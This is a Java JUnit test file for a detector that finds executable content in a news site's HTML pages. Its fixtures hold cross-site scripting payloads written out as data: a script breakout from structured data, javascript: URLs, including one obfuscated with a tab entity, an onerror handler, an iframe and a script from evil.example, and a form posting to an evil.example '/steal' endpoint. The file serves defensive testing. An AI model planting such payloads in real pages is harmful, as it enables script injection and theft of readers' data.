package dev.gazette.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ExecutableContentTest {

  @Test
  void ourStructuredDataOurAssetsAndEscapedMarkupRunNothing() {
    assertThat(ExecutableContent.in("""
        <html><head><script type="application/ld+json">{"headline": "\\u003cscript\\u003e"}</script>
        <script src="/assets/recommended.1a2b3c4d.js" defer></script>
        <meta name="description" content="javascript:alert(1)"></head>
        <body><h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1><a href="https://ok.example/">lien</a></body></html>
        """)).isEmpty();
  }

  @Test
  void scriptsHandlersScriptUrlsAndEmbeddedDocumentsAreEachFound() {
    assertThat(ExecutableContent.in("""
        <html><head><script type="application/ld+json">{"headline": "</script><script>alert(1)</script>"}</script>
        <meta http-equiv="refresh" content="0;url=javascript:alert(2)"></head>
        <body><img src=x onerror=alert(3)><a href="java&#x09;script:alert(4)">lien</a>
        <iframe src="https://evil.example"></iframe><script src="https://evil.example/x.js"></script></body></html>
        """)).hasSize(7);
  }

  @Test
  void theSearchPagesOwnFormIsAllowedAndAnyOtherFormIsFound() {
    assertThat(ExecutableContent.in("""
        <html><body><form role="search" action="/recherche/" method="get"><input name="q"></form></body></html>
        """)).isEmpty();
    assertThat(ExecutableContent.in("""
        <html><body><form action="https://evil.example/steal" method="post"><input name="q"></form></body></html>
        """)).hasSize(1);
  }
}
